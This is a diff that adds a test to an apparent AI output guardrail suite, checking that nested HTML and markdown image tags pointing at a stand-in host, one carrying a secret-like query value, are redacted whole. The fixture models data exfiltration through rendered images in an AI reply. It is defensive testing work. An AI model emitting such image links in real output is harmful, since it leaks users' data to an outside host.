@@ -145,6 +145,13 @@ describe('a word that begins in one part and ends in another', () => {
   })
 })
 
+test('images that stand in each other, and in both ways, are taken out whole', async () => {
+  const images: Guardrail = { ...redacting('output'), rule: { kind: 'images', hosts: [] } }
+  const text =
+    '<img src="https://evil.test/1"> ![a ![b](https://evil.test/2) c](https://evil.test/3?d=sesame), and more'
+  expect((await guarded([images], replied([says(text)]))).text).toBe('[redacted] [redacted], and more')
+})
+
 describe('a file that is saved', () => {
   const base64 = (text: string) => Buffer.from(text).toString('base64')
   const saving = (content: Record<string, string>) => replied([calls('save_file', { name: 'a.md', ...content })])
